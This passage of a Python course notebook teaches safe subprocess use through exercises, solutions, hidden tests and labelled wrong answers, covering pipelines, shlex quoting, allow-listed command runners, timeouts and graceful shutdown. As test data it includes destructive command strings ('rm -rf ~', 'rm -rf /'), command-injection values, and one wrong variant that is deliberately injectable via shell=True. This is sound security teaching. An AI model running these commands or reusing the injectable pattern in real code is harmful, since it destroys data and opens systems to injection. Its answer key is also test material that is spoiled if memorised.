# %% course={"kind": "solution"}
def pipeline(stages: list[list[str]]) -> str:
    ### BEGIN SOLUTION
    if not stages:
        raise ValueError("a pipeline needs at least one stage")
    procs: list[subprocess.Popen] = []
    for args in stages:
        upstream = procs[-1].stdout if procs else subprocess.DEVNULL
        procs.append(subprocess.Popen(args, stdin=upstream, stdout=subprocess.PIPE, text=True))
        if len(procs) > 1:
            procs[-2].stdout.close()  # the new stage holds the read end now, not us
    output, _ = procs[-1].communicate()
    codes = [proc.wait() for proc in procs]
    for args, code in zip(stages, codes):
        if code != 0:
            raise subprocess.CalledProcessError(code, args)
    return output
    ### END SOLUTION

# %% course={"kind": "test", "points": 1}
with ProcessWatch() as watch:
    got = watch.call(pipeline, [py("print('pear'); print('apple'); print('fig')"), py(SORT_LINES)])
    assert got == "apple\nfig\npear\n", f"producer | sort gave {got!r}"
    assert len(watch.started) == 2 and watch.unreaped() == [], "one process per stage, every one waited for"

# %% course={"kind": "test", "points": 1}
with ProcessWatch() as watch:
    three = [py("print('b'); print('a'); print('c')"), py(SORT_LINES), py(UPPER)]
    got = watch.call(pipeline, three)
    assert got == "A\nB\nC\n", f"three stages: {got!r}"
    assert watch.call(pipeline, [py("print('solo')")]) == "solo\n", "one stage works like run()"
    assert watch.call(pipeline, [py(COUNT_LINES)]) == "0\n", "the first stage reads nothing (DEVNULL)"
    reads_devnull = py("import os; print(os.path.samestat(os.fstat(0), os.stat(os.devnull)))")
    assert watch.call(pipeline, [reads_devnull]) == "True\n", "the first stage's stdin is subprocess.DEVNULL"
    try:
        pipeline([])
    except ValueError:
        pass
    else:
        raise AssertionError("an empty pipeline must raise ValueError")
    assert watch.unreaped() == []

# %% course={"kind": "test", "points": 2}
with ProcessWatch() as watch:
    # each failing stage reads all its input first: a stage whose reader has already quit would fail
    # on its own (BrokenPipeError, exit code 120), depending on which process runs first
    fail_4 = py("import sys; sys.stdin.read(); print('partial'); sys.exit(4)")
    for stages in ([fail_4, py(UPPER)], [py("print('x')"), fail_4, py(COUNT_LINES)]):
        try:
            watch.call(pipeline, stages)
        except subprocess.CalledProcessError as err:
            assert err.returncode == 4 and err.cmd == fail_4, f"name the failing stage: {err.cmd!r}, code {err.returncode}"
        else:
            raise AssertionError("a stage exiting with 4 must raise CalledProcessError, even if the last stage is fine")
    assert watch.unreaped() == [], "every stage is waited for, also when one failed"
### BEGIN HIDDEN TESTS
with ProcessWatch() as watch:
    fail_5 = py("import sys; sys.stdin.read(); sys.exit(5)")
    try:
        watch.call(pipeline, [fail_4, fail_5])
    except subprocess.CalledProcessError as err:
        assert err.returncode == 4 and err.cmd == fail_4, "the first failing stage is reported"
    else:
        raise AssertionError("failing stages must raise")
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 2}
with ProcessWatch() as watch:
    got = watch.call(pipeline, [py(PRODUCER), py(FIRST_LINE)])
    assert got == "y" * 1023 + "\n", "producer | head -n 1: the first line"
    assert watch.unreaped() == [], "the producer stops once its reader has gone"
### BEGIN HIDDEN TESTS
with ProcessWatch() as watch:
    big = py("import sys; sys.stdout.write('ab\\n' * 1_000_000)")
    got = watch.call(pipeline, [big, py(UPPER), py(UPPER)])
    assert len(got) == 3_000_000 and got[:6] == "AB\nAB\n", "3 MB through three stages without a deadlock"
### END HIDDEN TESTS

# %% course={"kind": "wrong", "id": "keeps-pipe-open"}
def pipeline(stages):
    if not stages:
        raise ValueError("no stages")
    procs = []
    for args in stages:
        upstream = procs[-1].stdout if procs else subprocess.DEVNULL
        procs.append(subprocess.Popen(args, stdin=upstream, stdout=subprocess.PIPE, text=True))
    output, _ = procs[-1].communicate()  # the parent still holds every earlier read end
    for args, proc in zip(stages, procs):
        if proc.wait() != 0:
            raise subprocess.CalledProcessError(proc.returncode, args)
    return output

# %% course={"kind": "wrong", "id": "stdin-inherited", "fails": ["t2"]}
def pipeline(stages):
    if not stages:
        raise ValueError("no stages")
    procs = []
    for args in stages:
        upstream = procs[-1].stdout if procs else None  # the first stage reads the notebook's own stdin
        procs.append(subprocess.Popen(args, stdin=upstream, stdout=subprocess.PIPE, text=True))
        if len(procs) > 1:
            procs[-2].stdout.close()
    output, _ = procs[-1].communicate()
    for args, proc in zip(stages, procs):
        if proc.wait() != 0:
            raise subprocess.CalledProcessError(proc.returncode, args)
    return output

# %% course={"kind": "wrong", "id": "last-stage-only"}
def pipeline(stages):
    if not stages:
        raise ValueError("no stages")
    procs = []
    for args in stages:
        upstream = procs[-1].stdout if procs else subprocess.DEVNULL
        procs.append(subprocess.Popen(args, stdin=upstream, stdout=subprocess.PIPE, text=True))
        if len(procs) > 1:
            procs[-2].stdout.close()
    output, _ = procs[-1].communicate()
    if procs[-1].returncode != 0:  # like a shell without pipefail; and the others are never reaped
        raise subprocess.CalledProcessError(procs[-1].returncode, stages[-1])
    return output

# %% course={"kind": "wrong", "id": "one-after-another"}
def pipeline(stages):
    if not stages:
        raise ValueError("no stages")
    data = ""
    for i, args in enumerate(stages):  # each stage must finish before the next starts
        done = subprocess.run(args, input=data if i else None, stdin=None if i else subprocess.DEVNULL,
                              capture_output=True, text=True)
        if done.returncode != 0:
            raise subprocess.CalledProcessError(done.returncode, args)
        data = done.stdout
    return data

# %% course={"kind": "wrong", "id": "wait-then-read"}
def pipeline(stages):
    if not stages:
        raise ValueError("no stages")
    procs = []
    for args in stages:
        upstream = procs[-1].stdout if procs else subprocess.DEVNULL
        procs.append(subprocess.Popen(args, stdin=upstream, stdout=subprocess.PIPE, text=True))
        if len(procs) > 1:
            procs[-2].stdout.close()
    for args, proc in zip(stages, procs):  # waits before reading: a full pipe blocks the last stage
        if proc.wait() != 0:
            raise subprocess.CalledProcessError(proc.returncode, args)
    return procs[-1].stdout.read()

# %% [markdown] course={"kind": "exercise", "id": "quote-command", "item": "x-create-a-safe-command-executor-that"}
# ### Fill a shell command template safely
#
# Sometimes a shell is unavoidable: a command for `ssh host '...'`, a `bash -c` step in a CI file, a
# cron line. Write `fill_command(template, **values)` that fills the `{name}` placeholders of a
# trusted `template` (with `str.format`) after quoting every value with `shlex.quote`, so that each
# value reaches the program as **exactly one argument**, unchanged, whatever it contains (spaces,
# `;`, `$(...)`, quotes, newlines, nothing at all).
#
# Values must be `str` or `int` (an `int` is written in decimal). Anything else, **`bool` and `None`
# included**, raises `TypeError`: a `None` or `True` inside a command is a bug upstream. A placeholder
# with no value raises `KeyError` (what `str.format` does).
#
# ```python
# fill_command("git checkout {branch}", branch="main; rm -rf ~")
# # "git checkout 'main; rm -rf ~'"
# ```

# %% [markdown] course={"kind": "hint"}
# Build a new dict of quoted values, then `template.format(**quoted)`. `shlex.quote` accepts only `str`.

# %% [markdown] course={"kind": "hint"}
# `isinstance(True, int)` is `True`: test for `bool` before you accept an `int`, or compare `type(value)`.

# %% course={"kind": "solution"}
def fill_command(template: str, **values: str | int) -> str:
    ### BEGIN SOLUTION
    quoted = {}
    for name, value in values.items():
        if type(value) not in (str, int):
            raise TypeError(f"{name} must be str or int, not {type(value).__name__}")
        quoted[name] = shlex.quote(str(value))
    return template.format(**quoted)
    ### END SOLUTION

# %% course={"kind": "test", "points": 1}
got = fill_command("git checkout {branch}", branch="main; rm -rf ~")
assert got == "git checkout 'main; rm -rf ~'", f"quote the value: got {got!r}"
assert fill_command("ls {path}", path="plain") == "ls plain", "shlex.quote leaves a harmless word as it is"

# %% course={"kind": "test", "points": 2}
def argv_via_shell(**values):
    """Run the filled command through a real sh; return what the program received as arguments."""
    template = shlex.quote(PY) + " -c 'import sys; print(sys.argv[1:])' {a} {b}"
    done = subprocess.run(["sh", "-c", fill_command(template, **values)], capture_output=True, text=True)
    return done.stdout


for a in ["two words", "x; echo INJECTED", "$(echo INJECTED)", "`echo INJECTED`", "it's", "", "a\nb", "*", "ünï €"]:
    got = argv_via_shell(a=a, b="end")
    assert got == f"{[a, 'end']!r}\n", f"{a!r} must arrive as one unchanged argument; the program got {got!r}"

# %% course={"kind": "test", "points": 1}
assert argv_via_shell(a=8080, b=-1) == "['8080', '-1']\n", "ints are written in decimal"
assert fill_command("echo {x} {x}", x="a b") == "echo 'a b' 'a b'", "every occurrence is filled"
assert fill_command("echo {{literal}} {x}", x=0) == "echo {literal} 0", "the template is a str.format template"
for bad in (None, True, 1.5, b"bytes", ["list"]):
    try:
        fill_command("run {x}", x=bad)
    except TypeError:
        pass
    else:
        raise AssertionError(f"a value of {bad!r} must raise TypeError")
try:
    fill_command("run {x} {y}", x="1")
except KeyError:
    pass
else:
    raise AssertionError("a placeholder without a value raises KeyError")

# %% course={"kind": "wrong", "id": "hand-quoted"}
def fill_command(template, **values):
    for name, value in values.items():
        if type(value) not in (str, int):
            raise TypeError(name)
    return template.format(**{name: f"'{value}'" for name, value in values.items()})  # breaks on it's

# %% course={"kind": "wrong", "id": "double-quotes"}
def fill_command(template, **values):
    for name, value in values.items():
        if type(value) not in (str, int):
            raise TypeError(name)
    return template.format(**{name: f'"{value}"' for name, value in values.items()})  # $() still runs

# %% course={"kind": "wrong", "id": "bool-is-int"}
def fill_command(template, **values):
    quoted = {}
    for name, value in values.items():
        if not isinstance(value, (str, int)):  # True and False pass as ints
            raise TypeError(name)
        quoted[name] = shlex.quote(str(value))
    return template.format(**quoted)

# %% [markdown] course={"kind": "exercise", "id": "allow-listed-runner", "item": "x-create-a-safe-command-executor-that"}
# ### A command executor with an allow-list
#
# A chat-ops bot receives command lines like `restart web-1` from users. Write
# `run_allowed(command_line, allowed)`:
#
# - split `command_line` into words **as a POSIX shell would** (quotes group words), but run **no shell**;
# - the first word must be a key of `allowed` (exactly, not a prefix); otherwise raise
#   `PermissionError` and run nothing;
# - run `allowed[word] + <the other words>` (the dict maps a command name to the argument list that
#   starts it) and return its `Captured(returncode, stdout, stderr)` (the `NamedTuple` from the first
#   exercise), with text output;
# - an empty or blank command line raises `ValueError`; so does a line with an unclosed quote
#   (`shlex` already raises it); `allowed` is not changed.
#
# ```python
# allowed = {"greet": py("import sys; print('hello', *sys.argv[1:])")}
# run_allowed("greet 'Ada Lovelace'", allowed)    # Captured(0, 'hello Ada Lovelace\n', '')
# run_allowed("rm -rf /", allowed)                # PermissionError: 'rm' is not allowed
# ```

# %% [markdown] course={"kind": "hint"}
# `shlex.split` does the splitting. Compare the first word with `in allowed`, not with `startswith`.

# %% [markdown] course={"kind": "hint"}
# Build a new list, `[*allowed[name], *rest]`: `allowed[name] + rest` is fine too, but never `.extend()` the
# list stored in `allowed`.

# %% course={"kind": "solution"}
def run_allowed(command_line: str, allowed: dict[str, list[str]]) -> Captured:
    ### BEGIN SOLUTION
    words = shlex.split(command_line)
    if not words:
        raise ValueError("empty command line")
    name, rest = words[0], words[1:]
    if name not in allowed:
        raise PermissionError(f"{name!r} is not allowed")
    done = subprocess.run([*allowed[name], *rest], capture_output=True, text=True)
    return Captured(done.returncode, done.stdout, done.stderr)
    ### END SOLUTION

# %% course={"kind": "test", "points": 1}
got = run_allowed("greet 'Ada Lovelace'", chatops_commands())
assert got == Captured(0, "hello Ada Lovelace\n", ""), f"got {got!r}"
assert run_allowed("fail", chatops_commands()) == Captured(7, "", "broken\n"), "a failure is returned, with stderr"

# %% course={"kind": "test", "points": 2}
with ProcessWatch() as watch:
    for line in ("rm -rf /", "greetx", "gree", "'greet x'", "GREET"):
        try:
            run_allowed(line, chatops_commands())
        except PermissionError:
            pass
        else:
            raise AssertionError(f"{line!r} is not on the allow-list: raise PermissionError")
    assert watch.started == [], "nothing may run for a refused command"

# %% course={"kind": "test", "points": 2}
got = run_allowed("args x; echo INJECTED", chatops_commands())
assert got.stdout == "['x;', 'echo', 'INJECTED']\n", f"no shell: ';' is just text, got {got.stdout!r}"
got = run_allowed("args \"$(echo INJECTED)\" 'two  spaces' ''", chatops_commands())
assert got.stdout == "['$(echo INJECTED)', 'two  spaces', '']\n", f"quotes group words, nothing expands: {got.stdout!r}"
### BEGIN HIDDEN TESTS
got = run_allowed("  args   a\tb  ", chatops_commands())
assert got.stdout == "['a', 'b']\n", f"whitespace separates words: {got.stdout!r}"
got = run_allowed("args ünï 'a|b' > out.txt", chatops_commands())
assert got.stdout == "['ünï', 'a|b', '>', 'out.txt']\n", f"no redirection either: {got.stdout!r}"
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
commands = chatops_commands()
before = {k: list(v) for k, v in commands.items()}
run_allowed("args one two", commands)
run_allowed("args three", commands)
assert commands == before, "allowed must not change"
for line in ("", "   ", "greet 'unclosed"):
    try:
        run_allowed(line, commands)
    except ValueError:
        pass
    else:
        raise AssertionError(f"{line!r} must raise ValueError")

# %% course={"kind": "wrong", "id": "str-split"}
def run_allowed(command_line, allowed):
    words = command_line.split()  # quotes are not honoured
    if not words:
        raise ValueError("empty")
    if words[0] not in allowed:
        raise PermissionError(words[0])
    done = subprocess.run(allowed[words[0]] + words[1:], capture_output=True, text=True)
    return Captured(done.returncode, done.stdout, done.stderr)

# %% course={"kind": "wrong", "id": "prefix-check"}
def run_allowed(command_line, allowed):
    words = shlex.split(command_line)
    if not words:
        raise ValueError("empty")
    name = next((n for n in allowed if command_line.strip().startswith(n)), None)
    if name is None:
        raise PermissionError(words[0])
    done = subprocess.run(allowed[name] + words[1:], capture_output=True, text=True)
    return Captured(done.returncode, done.stdout, done.stderr)

# %% course={"kind": "wrong", "id": "checked-then-shell"}
def run_allowed(command_line, allowed):
    words = shlex.split(command_line)
    if not words:
        raise ValueError("empty")
    if words[0] not in allowed:
        raise PermissionError(words[0])
    rest = command_line.strip()[len(words[0]):]  # the rest goes to a shell: injection
    done = subprocess.run(shlex.join(allowed[words[0]]) + rest, shell=True, capture_output=True, text=True)
    return Captured(done.returncode, done.stdout, done.stderr)

# %% course={"kind": "wrong", "id": "extends-allowed"}
def run_allowed(command_line, allowed):
    words = shlex.split(command_line)
    if not words:
        raise ValueError("empty")
    if words[0] not in allowed:
        raise PermissionError(words[0])
    args = allowed[words[0]]
    args.extend(words[1:])  # changes the allow-list itself
    done = subprocess.run(args, capture_output=True, text=True)
    return Captured(done.returncode, done.stdout, done.stderr)

# %% [markdown] course={"kind": "exercise", "id": "run-with-timeout", "item": "x-implement-timeout-for-long-running", "timeout": 120}
# ### A timeout that stops the whole process tree
#
# Write `run_with_timeout(args, seconds)` that runs `args` (no shell), captures stdout as `str`, and:
#
# - returns the output if the command finishes within `seconds` with return code 0;
# - raises `subprocess.CalledProcessError(code, args, output)` if it finishes with another code;
# - if time runs out, **kills the command and everything it started** with SIGKILL, reaps it, and raises
#   `TimedOut(args, seconds, partial)` (defined in the setup cell), where `partial` is the `str` the
#   command wrote before it was stopped.
#
# Why the whole tree: a wrapper script, `sh -c`, `npm`, `make` or a training launcher starts children of
# its own. Killing only the direct child leaves them running, and a child still holding your stdout
# pipe keeps `communicate()` waiting.
#
# ```python
# run_with_timeout(py("print('done')"), 5)       # 'done\n'
# run_with_timeout(py(SLOW), 0.5)                 # TimedOut; err.partial == 'step 1\n'
# ```

# %% [markdown] course={"kind": "hint"}
# `Popen(..., stdout=subprocess.PIPE, text=True, start_new_session=True)` makes the child the leader
# of a new process group whose id is `proc.pid`; everything it starts joins that group.

# %% [markdown] course={"kind": "hint"}
# On `TimeoutExpired` from `proc.communicate(timeout=seconds)`: `os.killpg(proc.pid, signal.SIGKILL)`,
# then call `proc.communicate()` again. It returns everything written so far and reaps the child.
# `raise TimedOut(...) from None` keeps the traceback short.

# %% course={"kind": "solution"}
def run_with_timeout(args: list[str], seconds: float) -> str:
    ### BEGIN SOLUTION
    proc = subprocess.Popen(args, stdout=subprocess.PIPE, text=True, start_new_session=True)
    try:
        output, _ = proc.communicate(timeout=seconds)
    except subprocess.TimeoutExpired:
        try:
            os.killpg(proc.pid, signal.SIGKILL)  # the child and everything it started
        except ProcessLookupError:
            pass  # the whole group had already ended
        partial, _ = proc.communicate()  # every writer is gone: read the rest and reap the child
        raise TimedOut(args, seconds, partial) from None
    if proc.returncode != 0:
        raise subprocess.CalledProcessError(proc.returncode, args, output)
    return output
    ### END SOLUTION

# %% course={"kind": "test", "points": 1}
with ProcessWatch() as watch:
    got = watch.call(run_with_timeout, py("print('done')"), 30)
    assert got == "done\n", f"a quick command returns its output: {got!r}"
    try:
        watch.call(run_with_timeout, py("import sys; print('half'); sys.exit(4)"), 30)
    except subprocess.CalledProcessError as err:
        assert err.returncode == 4 and err.output == "half\n", f"code and output in the error: {err.returncode}, {err.output!r}"
    else:
        raise AssertionError("exit code 4 must raise CalledProcessError")
    assert watch.unreaped() == []

# %% course={"kind": "test", "points": 2}
def partial_output_kept(seconds):
    """SLOW prints 'step 1', creates the file `said` once we have read it, then needs 5 s more."""
    with ProcessWatch() as watch, tempfile.TemporaryDirectory() as tmp:
        said = os.path.join(tmp, "said step 1")
        try:
            watch.call(run_with_timeout, py(SLOW, said), seconds, idle=seconds)
        except TimedOut as err:
            assert type(err.partial) is str, f"partial output as str, got {type(err.partial).__name__}"
            assert err.seconds == seconds and err.cmd == py(SLOW, said), "TimedOut(args, seconds, partial)"
            if not err.partial and not os.path.exists(said):
                raise Inconclusive from None  # stopped before we had read anything: give it more time
            assert err.partial == "step 1\n", f"the output written before the timeout: {err.partial!r}"
        else:
            raise AssertionError(f"a command needing 5 s must time out after {seconds} s")
        assert watch.unreaped() == [], "after the timeout the child is reaped"
        assert watch.started[-1].returncode == -signal.SIGKILL, f"stopped by SIGKILL: {watch.started[-1].returncode}"


with_more_time(partial_output_kept)

# %% course={"kind": "test", "points": 2}
def grandchild_stopped(seconds):
    """FORKING starts a grandchild that holds the output pipe until it is killed."""
    with ProcessWatch() as watch, Grandchild(watch) as grandchild:
        try:
            watch.call(run_with_timeout, py(FORKING, grandchild.path), seconds, idle=seconds)
        except TimedOut:
            pass
        else:
            raise AssertionError("FORKING runs for a minute: it must time out")
        if not grandchild.started():
            raise Inconclusive  # killed before it could start its child: give it more time
        assert grandchild.gone(), "the grandchild is still running: kill the whole process group"


with_more_time(grandchild_stopped)
### BEGIN HIDDEN TESTS
with ProcessWatch() as watch:
    got = watch.call(run_with_timeout, py("import time; time.sleep(0.2); print('late but fine')"), 30)
    assert got == "late but fine\n", "a command inside its time is not stopped"
    assert watch.call(run_with_timeout, py("pass"), 30) == "", "no output: ''"
### END HIDDEN TESTS

# %% course={"kind": "wrong", "id": "run-timeout-bytes"}
def run_with_timeout(args, seconds):
    try:
        return subprocess.run(args, capture_output=True, text=True, timeout=seconds, check=True).stdout
    except subprocess.TimeoutExpired as err:
        raise TimedOut(args, seconds, err.stdout) from None  # bytes (or None), and only the child was killed

# %% course={"kind": "wrong", "id": "kills-child-only"}
def run_with_timeout(args, seconds):
    proc = subprocess.Popen(args, stdout=subprocess.PIPE, text=True)
    try:
        output, _ = proc.communicate(timeout=seconds)
    except subprocess.TimeoutExpired:
        proc.kill()  # the grandchild keeps the pipe open: the next line waits for it
        partial, _ = proc.communicate()
        raise TimedOut(args, seconds, partial) from None
    if proc.returncode != 0:
        raise subprocess.CalledProcessError(proc.returncode, args, output)
    return output

# %% course={"kind": "wrong", "id": "run-kills-leader-only", "fails": ["t3"]}
def run_with_timeout(args, seconds):
    try:  # run() kills only the child it started on a timeout, even in a new session
        return subprocess.run(args, stdout=subprocess.PIPE, text=True, timeout=seconds, check=True,
                              start_new_session=True).stdout
    except subprocess.TimeoutExpired as err:
        raise TimedOut(args, seconds, (err.stdout or b"").decode()) from None

# %% course={"kind": "wrong", "id": "kill-without-reaping"}
def run_with_timeout(args, seconds):
    proc = subprocess.Popen(args, stdout=subprocess.PIPE, text=True, start_new_session=True)
    try:
        output, _ = proc.communicate(timeout=seconds)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        raise TimedOut(args, seconds, "") from None  # never reaped, output lost
    if proc.returncode != 0:
        raise subprocess.CalledProcessError(proc.returncode, args, output)
    return output

# %% [markdown] course={"kind": "exercise", "id": "stop-gracefully", "item": "x-write-a-process-wrapper-with-proper"}
# ### Stop a process the way Kubernetes does
#
# Write `stop(proc, grace)` for a running `subprocess.Popen`: send **SIGTERM**, give the process up to
# `grace` seconds to exit on its own, and only if it is still running then send **SIGKILL**. Always
# reap it, and return its return code (`int`). A process that has already exited is not signalled:
# just return its code.
#
# ```python
# child = subprocess.Popen(py(POLITE), stdout=subprocess.PIPE, text=True)
# child.stdout.readline()      # 'ready\n': its SIGTERM handler is installed
# stop(child, 5.0)             # 0: it cleaned up and exited
# ```

# %% [markdown] course={"kind": "hint"}
# `proc.terminate()` sends SIGTERM, `proc.kill()` sends SIGKILL, and `proc.wait(timeout=grace)` raises
# `subprocess.TimeoutExpired` when the grace period is over.

# %% [markdown] course={"kind": "hint"}
# `proc.poll()` answers `None` while the process runs, and its return code (reaping it) once it has ended.

# %% course={"kind": "solution"}
def stop(proc: subprocess.Popen, grace: float) -> int:
    ### BEGIN SOLUTION
    if proc.poll() is not None:
        return proc.returncode
    proc.terminate()
    try:
        return proc.wait(timeout=grace)
    except subprocess.TimeoutExpired:
        proc.kill()
        return proc.wait()
    ### END SOLUTION

# %% course={"kind": "test", "points": 1}
with ProcessWatch() as watch:
    child = subprocess.Popen(py(POLITE), stdout=subprocess.PIPE, text=True)
    assert child.stdout.readline() == "ready\n"  # handshake: the child's handler is installed
    code = watch.call(stop, child, 30.0)
    assert code == 0 and type(code) is int, f"a child that handles SIGTERM exits 0 by itself, got {code!r}"
    assert child.stdout.read() == "cleaning up\n", "send SIGTERM first: its handler prints 'cleaning up'"

# %% course={"kind": "test", "points": 2}
with ProcessWatch() as watch:
    child = subprocess.Popen(py(STUBBORN), stdout=subprocess.PIPE, text=True)
    assert child.stdout.readline() == "ready\n"
    code = watch.call(stop, child, 0.3)
    assert code == -signal.SIGKILL, f"a child ignoring SIGTERM gets SIGKILL after the grace period, got {code!r}"
    assert watch.unreaped() == [], "reap it after the kill"

# %% course={"kind": "test", "points": 1}
with ProcessWatch() as watch:
    child = subprocess.Popen(py(SLOW_CLEANUP), stdout=subprocess.PIPE, text=True)
    assert child.stdout.readline() == "ready\n"
    code = watch.call(stop, child, 30.0)
    assert code == 0 and child.stdout.read() == "cleaned up\n", f"a 0.3 s cleanup fits in a 30 s grace period (got {code!r})"
### BEGIN HIDDEN TESTS
with ProcessWatch() as watch:
    done = subprocess.Popen(py("raise SystemExit(3)"), stdout=subprocess.PIPE)
    done.stdout.read()  # end of file: it has exited (not yet reaped)
    assert watch.call(stop, done, 1.0) == 3, "an exited process: its own code"
    assert watch.call(stop, done, 1.0) == 3, "asked twice: the same code"
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
with ProcessWatch() as watch:
    ended = subprocess.Popen(py("raise SystemExit(3)"))
    ended.wait()
    sent = []  # spies in place of the methods that send signals
    ended.terminate, ended.kill = lambda: sent.append("SIGTERM"), lambda: sent.append("SIGKILL")
    ended.send_signal = lambda signum: sent.append(signal.Signals(signum).name)
    assert watch.call(stop, ended, 1.0) == 3 and sent == [], f"an ended process is not signalled, got {sent}"

# %% course={"kind": "wrong", "id": "kill-first"}
def stop(proc, grace):
    proc.kill()  # no chance to clean up
    return proc.wait()

# %% course={"kind": "wrong", "id": "wait-for-ever"}
def stop(proc, grace):
    proc.terminate()
    return proc.wait()  # a process that ignores SIGTERM: this never returns

# %% course={"kind": "wrong", "id": "timeout-escapes"}
def stop(proc, grace):
    proc.terminate()
    return proc.wait(timeout=grace)  # TimeoutExpired escapes, the process keeps running

# %% course={"kind": "wrong", "id": "signals-ended-process", "fails": ["t4"]}
def stop(proc, grace):
    proc.terminate()  # also when it has ended already (its pid may be someone else's by now)
    try:
        return proc.wait(timeout=grace)
    except subprocess.TimeoutExpired:
        proc.kill()
        return proc.wait()

# %% course={"kind": "wrong", "id": "short-fixed-grace"}
def stop(proc, grace):
    proc.terminate()
    try:
        return proc.wait(timeout=0.1)  # ignores the grace period it was given
    except subprocess.TimeoutExpired:
        proc.kill()
        return proc.wait()

# %% [markdown] course={"kind": "exercise", "id": "graceful-shutdown", "item": "x-write-a-process-wrapper-with-proper"}
# ### Graceful shutdown inside a worker
#
# The other side: your own long-running worker should finish its current job when Kubernetes sends
# SIGTERM, not die in the middle of it. Complete the context manager `GracefulShutdown(signals)`
# (default: SIGTERM and SIGINT):
#
# - on entering, install a handler for each of its signals (and return `self`);
# - the first signal sets `requested = True`; the main loop checks it between jobs;
# - every signal received is appended to `received` by name (`"SIGTERM"`);
# - a **second** signal means "stop now": the handler raises `KeyboardInterrupt`;
# - on leaving, even through an exception (which must propagate), put back **the handlers that were
#   there before**, whatever they were.
#
# ```python
# with GracefulShutdown() as shutdown:
#     for job in jobs:
#         if shutdown.requested:
#             break          # stop between jobs, never in the middle of one
#         run(job)
# ```
#
# The tests send signals to this very process with `send_to_self` (imported in the setup cell), which refuses
# when no handler of yours is installed.

# %% [markdown] course={"kind": "hint"}
# `signal.signal(signum, handler)` returns the handler it replaced: keep those in a dict to restore
# them in `__exit__`. A bound method `self._handle` is a fine handler.

# %% [markdown] course={"kind": "hint"}
# In `_handle(signum, frame)`: record `signal.Signals(signum).name`; if `requested` is already true,
# `raise KeyboardInterrupt`; otherwise set it.

# %% course={"kind": "solution"}
class GracefulShutdown:
    """with GracefulShutdown() as shutdown: ... `shutdown.requested` turns true on the first signal."""

    def __init__(self, signals: tuple[int, ...] = (signal.SIGTERM, signal.SIGINT)) -> None:
        self.signals = signals
        self.requested = False
        self.received: list[str] = []

    def __enter__(self) -> "GracefulShutdown":
        ### BEGIN SOLUTION
        self._previous = {signum: signal.signal(signum, self._handle) for signum in self.signals}
        return self
        ### END SOLUTION

    def _handle(self, signum: int, frame: object) -> None:
        ### BEGIN SOLUTION
        self.received.append(signal.Signals(signum).name)
        if self.requested:
            raise KeyboardInterrupt(f"second signal ({self.received[-1]}): stopping now")
        self.requested = True
        ### END SOLUTION

    def __exit__(self, *exc: object) -> None:
        ### BEGIN SOLUTION
        for signum, previous in self._previous.items():
            signal.signal(signum, previous)
        ### END SOLUTION

# %% course={"kind": "test", "points": 2}
with saved_handlers():
    finished = []
    with GracefulShutdown() as shutdown:
        assert shutdown.requested is False, "nothing requested yet"
        for job in range(10):
            if shutdown.requested:
                break
            finished.append(job)
            if job == 2:
                send_to_self(signal.SIGTERM)  # Kubernetes stops the pod during job 2
    assert shutdown.requested is True and shutdown.received == ["SIGTERM"], f"received {shutdown.received!r}"
    assert finished == [0, 1, 2], f"job 2 is finished, no new job starts: {finished}"

# %% course={"kind": "test", "points": 2}
with saved_handlers():
    def mine(signum, frame):
        pass

    signal.signal(signal.SIGTERM, mine)
    before = current_handlers()
    with GracefulShutdown():
        assert signal.getsignal(signal.SIGTERM) is not mine, "install a handler of your own on entering"
    assert current_handlers() == before, "leaving puts back the handlers that were there before"
    try:
        with GracefulShutdown():
            raise RuntimeError("job crashed")
    except RuntimeError:
        pass
    else:
        raise AssertionError("an exception inside the block must propagate")
    assert current_handlers() == before, "restored after an exception too"

# %% course={"kind": "test", "points": 1}
with saved_handlers():
    term_before = signal.getsignal(signal.SIGTERM)
    with GracefulShutdown((signal.SIGUSR1,)) as shutdown:
        assert signal.getsignal(signal.SIGTERM) == term_before, "GracefulShutdown((SIGUSR1,)) leaves SIGTERM alone"
        send_to_self(signal.SIGUSR1)
        assert shutdown.requested and shutdown.received == ["SIGUSR1"], f"only the signals asked for: {shutdown.received}"

# %% course={"kind": "test", "points": 2}
with saved_handlers():
    with GracefulShutdown() as shutdown:
        try:
            send_to_self(signal.SIGINT)
        except KeyboardInterrupt:
            raise AssertionError("the first signal only asks: set requested, do not raise") from None
        try:
            send_to_self(signal.SIGTERM)
        except KeyboardInterrupt:
            pass
        else:
            raise AssertionError("a second signal means stop now: raise KeyboardInterrupt")
    assert shutdown.received == ["SIGINT", "SIGTERM"], f"received {shutdown.received!r}"

# %% course={"kind": "wrong", "id": "never-restored"}
class GracefulShutdown:
    def __init__(self, signals=(signal.SIGTERM, signal.SIGINT)):
        self.signals, self.requested, self.received = signals, False, []

    def __enter__(self):
        for signum in self.signals:
            signal.signal(signum, self._handle)
        return self

    def _handle(self, signum, frame):
        self.received.append(signal.Signals(signum).name)
        if self.requested:
            raise KeyboardInterrupt
        self.requested = True

    def __exit__(self, *exc):
        for signum in self.signals:
            signal.signal(signum, signal.SIG_DFL)  # the defaults, not what was there before

# %% course={"kind": "wrong", "id": "exit-in-handler"}
class GracefulShutdown:
    def __init__(self, signals=(signal.SIGTERM, signal.SIGINT)):
        self.signals, self.requested, self.received = signals, False, []

    def __enter__(self):
        self._previous = {s: signal.signal(s, self._handle) for s in self.signals}
        return self

    def _handle(self, signum, frame):
        self.received.append(signal.Signals(signum).name)
        self.requested = True
        raise KeyboardInterrupt  # stops in the middle of the current job

    def __exit__(self, *exc):
        for signum, previous in self._previous.items():
            signal.signal(signum, previous)

# %% course={"kind": "wrong", "id": "swallows-errors"}
class GracefulShutdown:
    def __init__(self, signals=(signal.SIGTERM, signal.SIGINT)):
        self.signals, self.requested, self.received = signals, False, []

    def __enter__(self):
        self._previous = {s: signal.signal(s, self._handle) for s in self.signals}
        return self

    def _handle(self, signum, frame):
        self.received.append(signal.Signals(signum).name)
        if self.requested:
            raise KeyboardInterrupt
        self.requested = True

    def __exit__(self, *exc):
        for signum, previous in self._previous.items():
            signal.signal(signum, previous)
        return True  # hides the job's exception

# %% [markdown] course={"kind": "exercise", "id": "command-runner", "item": "project-7-3-1", "timeout": 120}
# ### Project core: a command runner with retries, timeouts, environment and a log
#
# Complete `CommandRunner`, the piece of a deploy tool that runs every external command:
#
# - `CommandRunner(timeout=60.0, retries=0, env=None)`: `env` maps variable names to a `str` (set it
#   for the child) or `None` (remove it for the child); the caller's dict is copied.
